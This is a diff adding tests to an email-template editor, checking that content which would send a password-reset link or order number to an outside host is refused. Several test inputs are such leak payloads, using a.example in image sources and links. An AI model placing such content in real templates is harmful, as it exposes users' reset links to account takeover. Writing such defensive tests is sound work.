@@ -167,6 +167,10 @@ describe('a template that is edited', () => {
     [{ content: '<p>Bonjour</p>' }, 'la variable obligatoire « withdraw_url » manque'],
     [{ content: '<script>alert(1)</script>' }, 'l’élément « script » n’est pas admis'],
     [{ content: '<p>{{{first_name}}}</p>' }, 'serait inséré sans protection'],
+    [
+      { content: '<img alt="" src="https://a.example/?{{order_number}}">' },
+      'une variable ne peut pas se trouver ici',
+    ],
     [{ subject: '' }, 'Sujet requis'],
     [{ content: '' }, 'Contenu requis'],
   ])('with %j is refused beside its field', async (changes, text) => {
@@ -175,6 +179,16 @@ describe('a template that is edited', () => {
     expect(status).toBe(422)
     expect(pageText(html).replace(/\u202f/g, ' ')).toContain(text)
     expect(await stored('order-confirmation')).toEqual(before)
+  })
+
+  test.each([
+    '<p><a href="{{reset_url}}">a</a><img alt="" src="https://a.example/p.gif?u={{reset_url}}"></p>',
+    '<p><a href="https://a.example/?k={{reset_url}}">a</a></p>',
+    '<p>https://a.example/?k={{reset_url}}</p>',
+  ])('does not give the link of a new password to others: %s', async (content) => {
+    const before = await stored('reset-password')
+    expect((await edit('reset-password', { content }, staff)).status).toBe(422)
+    expect(await stored('reset-password')).toEqual(before)
   })
 
   test('speaks of what is wrong in the reader’s language', async () => {
@@ -217,6 +231,20 @@ describe('what a template said before', () => {
     expect(await versions('offer')).toHaveLength(3)
     const late = await owner.post(offer, { intent: 'restore', language: 'fr', version: '2', base })
     expect(late.status).toBe(409)
+  })
+
+  test('does not come back where it would not be saved today', async () => {
+    const content = '<p><a href="https://a.example/?k={{reset_url}}">a</a></p>'
+    const { subject = '', version: base = 0 } = (await stored('reset-password')) ?? {}
+    const version = base + 1
+    const older = { name: 'reset-password', language: 'fr', version, subject, content } as const
+    await shop.ports.db.insert(emailTemplateVersion).values({ ...older, savedAt: shop.clock.now() })
+    const answer = await staff.post(`${path}/reset-password`, {
+      ...{ intent: 'restore', language: 'fr', version: String(version), base: String(base) },
+    })
+    expect(answer.status).toBe(422)
+    expect(pageText(answer.html)).toContain('n’admet plus')
+    expect((await stored('reset-password'))?.content).not.toContain('a.example')
   })
 
   test('of the shop itself is given back by the owner only', async () => {
